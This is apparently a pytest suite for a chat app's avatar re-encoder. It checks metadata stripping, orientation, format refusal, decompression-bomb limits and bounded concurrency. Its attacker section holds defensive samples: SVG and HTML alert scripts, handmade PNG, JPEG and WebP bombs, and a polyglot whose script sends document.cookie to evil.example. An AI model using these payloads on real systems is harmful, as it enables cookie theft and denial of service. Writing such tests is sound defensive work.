"""Avatar re-encoding (flet_chat/media/avatars.py): real pictures made with Pillow here, and what an
attacker would upload instead. Whatever goes in, what comes out is a 128x128 WebP the server wrote,
or an AvatarRejectedError whose text the user reads."""

from __future__ import annotations

import ast
import asyncio
import io
import struct
import threading
import warnings
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageCms

from flet_chat.core.errors import ValidationError
from flet_chat.media import avatars
from flet_chat.media.avatars import (
    AVATAR_MAX_BYTES,
    AVATAR_SIZE,
    BUSY,
    CHOOSE_AN_IMAGE,
    TOO_MANY_PIXELS,
    UNREADABLE,
    AvatarBusyError,
    AvatarRejectedError,
    reencode_avatar,
    reencode_avatar_async,
)
from tests.support.waiting import wait_until

RED, BLUE = (220, 20, 20), (20, 20, 220)
# What a WebP of one still picture holds; EXIF, XMP, ICCP, ANIM and ANMF chunks must not appear.
PICTURE_CHUNKS = {b"VP8 ", b"VP8L", b"VP8X", b"ALPH"}


# --- making inputs -----------------------------------------------------------------------------


def saved(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def halves(size: tuple[int, int], left: tuple[int, ...], right: tuple[int, ...], mode: str = "RGB"):
    """A picture whose left half is one colour and right half another (to see turns and crops)."""
    image = Image.new(mode, size, left)
    image.paste(right, (size[0] // 2, 0, size[0], size[1]))
    return image


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def handmade_png(width: int, height: int, depth: int, colour_type: int, rows: bytes) -> bytes:
    """A PNG written byte by byte: for what Pillow will not write (16-bit RGBA, a bomb)."""
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def noisy_png(size: tuple[int, int] = (256, 256)) -> bytes:
    """Noise does not compress: the PNG's pixel data spans most of the file."""
    return saved(Image.effect_noise(size, 64).convert("RGB"), "PNG")


def animated_webp(colours: list[tuple[int, int, int]], size: tuple[int, int] = (32, 32)) -> bytes:
    frames = [Image.new("RGB", size, colour) for colour in colours]
    return saved(frames[0], "WEBP", save_all=True, append_images=frames[1:], duration=100)


def with_webp_canvas(data: bytes, width: int, height: int) -> bytes:
    """An extended (VP8X) WebP whose canvas claims another size; its frames stay small."""
    assert data[12:16] == b"VP8X"
    patched = bytearray(data)
    patched[24:27] = (width - 1).to_bytes(3, "little")
    patched[27:30] = (height - 1).to_bytes(3, "little")
    return bytes(patched)


def with_jpeg_frame(data: bytes, width: int, height: int) -> bytes:
    """A baseline JPEG whose start-of-frame header claims another size."""
    at = data.index(b"\xff\xc0")
    patched = bytearray(data)
    patched[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(patched)


# --- reading outputs ---------------------------------------------------------------------------


def riff_chunks(data: bytes) -> list[bytes]:
    assert data[:4] == b"RIFF"
    assert data[8:12] == b"WEBP"
    assert int.from_bytes(data[4:8], "little") == len(data) - 8  # nothing after the container
    kinds, at = [], 12
    while at < len(data):
        kinds.append(data[at : at + 4])
        at += 8 + (int.from_bytes(data[at + 4 : at + 8], "little") + 1) // 2 * 2
    return kinds


def avatar(data: bytes) -> Image.Image:
    """The output, checked to be a 128x128 still WebP with nothing but pixels in it."""
    assert set(riff_chunks(data)) <= PICTURE_CHUNKS
    image = Image.open(io.BytesIO(data), formats=["WEBP"])
    assert image.format == "WEBP"
    assert image.size == (AVATAR_SIZE, AVATAR_SIZE)
    assert getattr(image, "n_frames", 1) == 1
    assert not image.getexif()
    assert not {"exif", "xmp", "icc_profile"} & set(image.info)
    image.load()
    return image


def near(actual: tuple[int, ...], expected: tuple[int, ...], tolerance: int = 30) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected, strict=True))


def refusal(data: bytes) -> str:
    with pytest.raises(AvatarRejectedError) as caught:
        reencode_avatar(data)
    assert isinstance(caught.value, ValidationError)  # what callers already show the user
    return str(caught.value)


# --- pictures people upload --------------------------------------------------------------------


def test_a_photo_comes_out_as_a_small_webp() -> None:
    photo = Image.radial_gradient("L").resize((900, 600)).convert("RGB")
    data = saved(photo, "JPEG", quality=90)
    out = reencode_avatar(data)
    avatar(out)
    assert len(out) < 10_000


def test_a_png_keeps_its_transparency() -> None:
    clear, opaque = (0, 0, 0, 0), (*RED, 255)
    out = avatar(reencode_avatar(saved(halves((200, 200), clear, opaque, "RGBA"), "PNG")))
    assert out.mode == "RGBA"
    assert out.getpixel((10, 64))[3] == 0
    assert near(out.getpixel((117, 64)), opaque)


def test_a_wide_picture_is_cropped_to_its_centre() -> None:
    # 400x100: red | blue | red | blue quarters; the centre square is half blue, half red.
    image = Image.new("RGB", (400, 100), RED)
    image.paste(BLUE, (100, 0, 200, 100))
    image.paste(BLUE, (300, 0, 400, 100))
    out = avatar(reencode_avatar(saved(image, "PNG")))
    assert near(out.getpixel((20, 64)), BLUE)
    assert near(out.getpixel((107, 64)), RED)


def jpeg_with_metadata() -> bytes:
    """Stored sideways (orientation 6: turn 90 degrees clockwise to show), with GPS, XMP, ICC."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (52.0, 22.0, 11.0),
            ExifTags.GPS.GPSLongitudeRef: "E",
            ExifTags.GPS.GPSLongitude: (4.0, 53.0, 42.0),
        }
    )
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>home address</secret></x:xmpmeta>'
    # Stored: left half red, right half blue. Shown upright: top red, bottom blue.
    data = saved(
        halves((300, 200), RED, BLUE), "JPEG", exif=exif, icc_profile=srgb, xmp=xmp, quality=95
    )
    source = Image.open(io.BytesIO(data))  # the test means something only if this is so
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert source.getexif()[ExifTags.Base.Orientation] == 6
    assert {"icc_profile", "xmp"} <= set(source.info)
    return data


def test_a_jpeg_is_turned_upright_and_loses_gps_xmp_and_icc() -> None:
    out_bytes = reencode_avatar(jpeg_with_metadata())
    out = avatar(out_bytes)  # no EXIF, XMP or ICC chunk, nothing in info
    assert near(out.getpixel((64, 10)), RED)
    assert near(out.getpixel((64, 117)), BLUE)
    for leaked in (b"Exif", b"PhoneMaker", b"home address", b"xmpmeta", b"sRGB"):
        assert leaked not in out_bytes


@pytest.mark.parametrize(
    ("orientation", "top_left", "bottom_right"),
    [(1, RED, BLUE), (3, BLUE, RED), (8, BLUE, RED)],
)
def test_other_orientations_are_turned_too(
    orientation: int, top_left: tuple[int, ...], bottom_right: tuple[int, ...]
) -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    out = avatar(reencode_avatar(saved(halves((200, 200), RED, BLUE), "JPEG", exif=exif)))
    assert near(out.getpixel((10, 10)), top_left)
    assert near(out.getpixel((117, 117)), bottom_right)


def test_a_broken_exif_block_does_not_refuse_the_photo() -> None:
    data = saved(Image.new("RGB", (64, 64), RED), "JPEG", exif=b"Exif\x00\x00MM\x00*garbage")
    with pytest.warns(UserWarning, match="Corrupt EXIF data"):  # Pillow's, on stderr
        out = reencode_avatar(data)
    assert near(avatar(out).getpixel((64, 64)), RED)


def test_a_cmyk_jpeg_comes_out_in_colour() -> None:
    data = saved(Image.new("CMYK", (200, 160), (0, 255, 255, 0)), "JPEG")  # pure red in CMYK
    assert Image.open(io.BytesIO(data)).mode == "CMYK"
    out = avatar(reencode_avatar(data))
    assert out.mode == "RGB"
    assert near(out.getpixel((64, 64)), (255, 0, 0), tolerance=40)


def test_a_palette_png_keeps_its_transparent_colour() -> None:
    image = halves((100, 100), 0, 1, "P")
    image.putpalette([0, 0, 0, *RED])
    out = avatar(reencode_avatar(saved(image, "PNG", transparency=0)))
    assert out.mode == "RGBA"
    assert out.getpixel((10, 64))[3] == 0
    assert near(out.getpixel((117, 64)), (*RED, 255))


def test_a_16_bit_grey_png_is_scaled_not_clipped_to_white() -> None:
    data = saved(Image.new("I;16", (64, 64), 40_000), "PNG")
    assert Image.open(io.BytesIO(data)).mode == "I;16"
    grey = round(40_000 / 256)  # 156; clipping would give 255
    assert near(avatar(reencode_avatar(data)).getpixel((64, 64)), (grey, grey, grey), 3)


def test_a_16_bit_rgba_png_keeps_colour_and_alpha() -> None:
    pixel = struct.pack(">HHHH", 60_000, 30_000, 0, 0)  # transparent left half
    solid = struct.pack(">HHHH", 60_000, 30_000, 0, 65_535)
    rows = b"".join(b"\x00" + pixel * 32 + solid * 32 for _ in range(64))
    out = avatar(reencode_avatar(handmade_png(64, 64, 16, 6, rows)))
    assert out.getpixel((10, 64))[3] == 0
    assert near(out.getpixel((117, 64)), (234, 117, 0, 255))


def test_grey_and_grey_with_alpha_become_rgb_and_rgba() -> None:
    grey = avatar(reencode_avatar(saved(Image.new("L", (50, 50), 90), "PNG")))
    assert grey.mode == "RGB"
    assert near(grey.getpixel((64, 64)), (90, 90, 90), 3)
    with_alpha = avatar(reencode_avatar(saved(halves((50, 50), (90, 0), (90, 255), "LA"), "PNG")))
    assert with_alpha.mode == "RGBA"
    assert with_alpha.getpixel((5, 64))[3] == 0
    one_bit = avatar(reencode_avatar(saved(Image.new("1", (40, 40), 1), "PNG")))
    assert near(one_bit.getpixel((64, 64)), (255, 255, 255), 3)


def test_an_animated_webp_gives_its_first_frame_and_no_animation() -> None:
    data = animated_webp([RED, (20, 220, 20), BLUE])
    assert Image.open(io.BytesIO(data)).n_frames == 3
    out_bytes = reencode_avatar(data)
    assert near(avatar(out_bytes).getpixel((64, 64)), RED)  # avatar() checks: no ANIM/ANMF


def test_an_animated_png_gives_its_first_frame() -> None:
    frames = [Image.new("RGB", (40, 40), colour) for colour in (RED, BLUE)]
    data = saved(frames[0], "PNG", save_all=True, append_images=frames[1:])
    assert Image.open(io.BytesIO(data)).n_frames == 2
    assert near(avatar(reencode_avatar(data)).getpixel((64, 64)), RED)


@pytest.mark.parametrize("size", [(1, 1000), (1000, 1), (1, 1)])
def test_a_one_pixel_strip_still_makes_an_avatar(size: tuple[int, int]) -> None:
    out = avatar(reencode_avatar(saved(Image.new("RGB", size, BLUE), "PNG")))
    assert near(out.getpixel((64, 64)), BLUE)


def padded_png(total: int) -> bytes:
    data = saved(Image.new("RGB", (64, 64), RED), "PNG")
    return data + b"\x00" * (total - len(data))  # bytes after IEND: not part of the picture


def test_exactly_2_mb_is_taken_and_one_byte_more_is_refused() -> None:
    assert len(padded_png(AVATAR_MAX_BYTES)) == 2 * 1024 * 1024
    avatar(reencode_avatar(padded_png(AVATAR_MAX_BYTES)))
    assert refusal(padded_png(AVATAR_MAX_BYTES + 1)) == CHOOSE_AN_IMAGE


def test_nothing_at_all_is_refused() -> None:
    assert refusal(b"") == CHOOSE_AN_IMAGE


def test_a_12_megapixel_picture_is_taken_in_the_dearest_format() -> None:
    # The refusal text promises 12 megapixels; WebP costs the most memory per pixel.
    phone = saved(Image.new("RGB", (4032, 3024), BLUE), "WEBP", lossless=True, method=0)
    assert near(avatar(reencode_avatar(phone)).getpixel((64, 64)), BLUE)


# --- what an attacker uploads ------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(saved(Image.new("RGB", (32, 32), RED), "GIF"), id="gif"),
        pytest.param(saved(Image.new("RGB", (32, 32), RED), "BMP"), id="bmp"),
        pytest.param(saved(Image.new("RGB", (32, 32), RED), "TIFF"), id="tiff"),
        pytest.param(saved(Image.new("RGB", (32, 32), RED), "ICO"), id="ico"),
        pytest.param(
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', id="svg"
        ),
        pytest.param(b"<!DOCTYPE html><html><script>alert(1)</script></html>", id="html"),
        pytest.param(b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n", id="pdf"),
        pytest.param(b"\x89PNG\r\n\x1a\n", id="png-signature-only"),
        pytest.param(b"RIFF\x10\x00\x00\x00WEBPVP8 ", id="webp-header-only"),
        pytest.param(b"\xff\xd8\xff", id="jpeg-start-only"),
    ],
)
def test_other_formats_and_impostors_are_refused(data: bytes) -> None:
    assert refusal(data) in (CHOOSE_AN_IMAGE, UNREADABLE)


def test_a_gif_named_png_is_refused_as_not_an_image_we_take() -> None:
    # Nothing but the bytes is looked at: there is no name or type to lie with.
    assert refusal(saved(Image.new("RGB", (32, 32), RED), "GIF")) == CHOOSE_AN_IMAGE


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(noisy_png(), id="png"),
        pytest.param(saved(Image.effect_noise((256, 256), 64), "JPEG"), id="jpeg"),
        pytest.param(saved(Image.effect_noise((256, 256), 64).convert("RGB"), "WEBP"), id="webp"),
    ],
)
def test_a_truncated_picture_is_refused_as_unreadable(data: bytes) -> None:
    assert refusal(data[: len(data) // 2]) == UNREADABLE


def test_a_zero_pixel_png_is_refused() -> None:
    assert refusal(handmade_png(0, 0, 8, 0, b"")) == UNREADABLE


def test_a_png_with_a_short_header_is_refused_as_unreadable() -> None:
    # IHDR of 5 bytes instead of 13: Pillow raises ValueError, which must not escape, and the
    # bytes after it (a CRC) must not be read as a height.
    short = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", b"\x00\x00\x00\x10\x00")
    assert refusal(short + png_chunk(b"IEND", b"")) == UNREADABLE


def refusal_and_warnings(data: bytes) -> tuple[str, list[str]]:
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        text = refusal(data)
    return text, [str(warning.message) for warning in seen]


def test_a_decompression_bomb_is_refused_before_decoding() -> None:
    # 50000x50000 grey (2.5 gigapixels) in a few hundred bytes: one compressed row of zeros.
    bomb = handmade_png(50_000, 50_000, 8, 0, b"\x00" * 50_001)
    assert len(bomb) < 1000
    assert refusal_and_warnings(bomb) == (TOO_MANY_PIXELS, [])


@pytest.mark.parametrize(
    "bomb",
    [
        # 9500x9500 is 90 megapixels: past Pillow's warning (89 million) but not its error, and
        # each side within AVATAR_MAX_SIDE; refused before Pillow sees it, so it warns nothing.
        pytest.param(lambda: handmade_png(9500, 9500, 8, 0, b"\x00" * 9501), id="png"),
        pytest.param(
            lambda: with_jpeg_frame(saved(Image.new("RGB", (16, 16)), "JPEG"), 9500, 9500),
            id="jpeg",
        ),
        pytest.param(
            lambda: with_webp_canvas(animated_webp([RED, BLUE], (4, 4)), 9500, 9500), id="webp"
        ),
        pytest.param(lambda: handmade_png(10_001, 1, 8, 0, b"\x00" * 10_002), id="side"),
    ],
)
def test_a_size_past_the_limits_is_refused_quietly(bomb: object) -> None:
    assert callable(bomb)
    data = bomb()
    assert refusal_and_warnings(data) == (TOO_MANY_PIXELS, [])


def test_a_webp_past_the_memory_budget_is_refused_though_a_png_that_size_is_not_too_many() -> None:
    # WebP decoding takes 17 bytes a pixel: 4100x3500 (14 megapixels) would take 244 MB.
    webp = with_webp_canvas(animated_webp([RED, BLUE], (4, 4)), 4100, 3500)
    assert refusal(webp) == TOO_MANY_PIXELS
    # The same canvas as PNG (10 bytes a pixel) passes the size checks and is then decoded.
    png = handmade_png(4100, 3500, 8, 0, b"")  # no pixel rows: fails only when decoded
    assert refusal(png) == UNREADABLE


def test_a_polyglot_loses_what_follows_the_picture() -> None:
    payload = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
    out = reencode_avatar(saved(Image.new("RGB", (64, 64), RED), "PNG") + payload)
    avatar(out)
    for part in (b"<html", b"<script", b"evil.example", b"cookie"):
        assert part not in out


def test_text_hidden_in_png_chunks_does_not_come_out() -> None:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    info.add_text("Author", "secret-author", zip=True)
    out = reencode_avatar(saved(Image.new("RGB", (64, 64), RED), "PNG", pnginfo=info))
    avatar(out)
    assert b"script" not in out
    assert b"secret-author" not in out


def test_pixels_hidden_under_full_transparency_are_not_kept_exactly() -> None:
    # Fully transparent pixels may carry a hidden picture in their colour channels; WebP's
    # encoder (exact=False) is free to flatten them, and the output must still be transparent.
    image = Image.effect_noise((128, 128), 100).convert("RGB")
    image.putalpha(0)
    out = avatar(reencode_avatar(saved(image, "PNG")))
    assert out.getextrema()[3] == (0, 0)


SEEDS = [
    saved(Image.new("RGB", (24, 16), RED), "PNG"),
    saved(halves((24, 16), (0, 0, 0, 0), (*BLUE, 255), "RGBA"), "PNG"),
    saved(Image.radial_gradient("L").resize((24, 16)), "JPEG", quality=80),
    saved(Image.radial_gradient("L").resize((24, 16)).convert("RGB"), "JPEG", progressive=True),
    saved(Image.new("RGB", (24, 16), BLUE), "WEBP"),
    saved(Image.new("RGBA", (24, 16), (*RED, 100)), "WEBP", lossless=True),
    animated_webp([RED, BLUE], (8, 8)),
]


def webp_or_refusal(data: bytes) -> None:
    """Any other exception, or a refusal with some other text, fails the test."""
    try:
        out = reencode_avatar(data)
    except AvatarRejectedError as error:
        refused = str(error)
    else:
        avatar(out)
        return
    assert refused in (CHOOSE_AN_IMAGE, UNREADABLE, TOO_MANY_PIXELS)


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.binary(max_size=2048))
def test_arbitrary_bytes_give_a_webp_or_a_refusal(data: bytes) -> None:
    webp_or_refusal(data)


@settings(
    max_examples=200,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    st.sampled_from(SEEDS),
    st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), min_size=1, max_size=8),
    st.integers(min_value=0),
)
def test_damaged_pictures_give_a_webp_or_a_refusal(
    seed: bytes, changes: list[tuple[int, int]], cut: int
) -> None:
    # Real headers with a few bytes changed reach far deeper into the decoders than noise does.
    data = bytearray(seed)
    for where, value in changes:
        data[where % len(data)] = value
    webp_or_refusal(bytes(data[: max(1, len(data) - cut % 64)]))


# --- the thread and its bound ------------------------------------------------------------------


async def test_the_async_form_gives_the_same_webp() -> None:
    data = jpeg_with_metadata()
    assert await reencode_avatar_async(data) == reencode_avatar(data)


async def test_the_async_form_refuses_the_same_way() -> None:
    with pytest.raises(AvatarRejectedError, match=CHOOSE_AN_IMAGE):
        await reencode_avatar_async(saved(Image.new("RGB", (8, 8)), "GIF"))
    with pytest.raises(AvatarRejectedError, match=CHOOSE_AN_IMAGE):
        await reencode_avatar_async(b"\x00" * (AVATAR_MAX_BYTES + 1))


class HeldDecoder:
    """Stands in for reencode_avatar: each call blocks its thread until released."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.running = 0
        self.most_at_once = 0
        self.release = threading.Event()

    def __call__(self, data: bytes) -> bytes:
        with self.lock:
            self.running += 1
            self.most_at_once = max(self.most_at_once, self.running)
        try:
            self.release.wait(timeout=10)
            return data
        finally:
            with self.lock:
                self.running -= 1


@pytest.fixture
def held(monkeypatch: pytest.MonkeyPatch) -> Iterator[HeldDecoder]:
    decoder = HeldDecoder()
    monkeypatch.setattr(avatars, "reencode_avatar", decoder)
    yield decoder
    decoder.release.set()  # no thread outlives the test


def waiting() -> int:
    return avatars._gate().waiting


async def test_at_most_two_decode_at_once(held: HeldDecoder) -> None:
    uploads = [asyncio.create_task(reencode_avatar_async(bytes([i]))) for i in range(5)]
    await wait_until(lambda: held.running == 2 and waiting() == 3)
    held.release.set()
    assert await asyncio.gather(*uploads) == [bytes([i]) for i in range(5)]
    assert held.most_at_once == 2


async def test_past_the_queue_an_upload_is_refused_at_once(held: HeldDecoder) -> None:
    queue = avatars.AVATAR_WORKERS + avatars.AVATAR_MAX_WAITING
    uploads = [asyncio.create_task(reencode_avatar_async(b"x")) for _ in range(queue)]
    await wait_until(lambda: held.running == 2 and waiting() == avatars.AVATAR_MAX_WAITING)
    with pytest.raises(AvatarBusyError, match=BUSY):
        await reencode_avatar_async(b"x")
    held.release.set()
    assert await asyncio.gather(*uploads) == [b"x"] * queue
    assert await reencode_avatar_async(b"y") == b"y"  # the queue empties, uploads go on


async def test_a_caller_who_leaves_keeps_its_turn_until_its_thread_ends(held: HeldDecoder) -> None:
    first, second = (asyncio.create_task(reencode_avatar_async(b"x")) for _ in range(2))
    await wait_until(lambda: held.running == 2)
    first.cancel()  # the tab closed; its thread is still decoding
    with pytest.raises(asyncio.CancelledError):
        await first
    third = asyncio.create_task(reencode_avatar_async(b"z"))
    # The third waits for a turn instead of starting beside the two running threads.
    await wait_until(lambda: waiting() == 1)
    assert held.running == 2
    held.release.set()
    assert await third == b"z"
    assert await second == b"x"
    assert held.most_at_once == 2


async def test_a_burst_of_real_uploads_all_finish() -> None:
    data = [saved(Image.new("RGB", (300 + i, 200), RED), "JPEG") for i in range(6)]
    outs = await asyncio.gather(*(reencode_avatar_async(d) for d in data))
    for out in outs:
        assert near(avatar(out).getpixel((64, 64)), RED)


# --- the one place images are decoded ----------------------------------------------------------


def test_only_the_media_package_imports_pillow() -> None:
    package = Path(avatars.__file__).resolve().parents[1]
    importers = set()
    for path in package.rglob("*.py"):
        source = path.read_text()
        if "PIL" not in source:  # parsing only candidates keeps this fast
            continue
        for node in ast.walk(ast.parse(source, str(path))):
            names = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            if any(name == "PIL" or name.startswith("PIL.") for name in names):
                importers.add(path.relative_to(package).as_posix())
    assert {path.split("/")[0] for path in importers} == {"media"}
    assert importers == {"media/avatars.py", "media/files.py"}
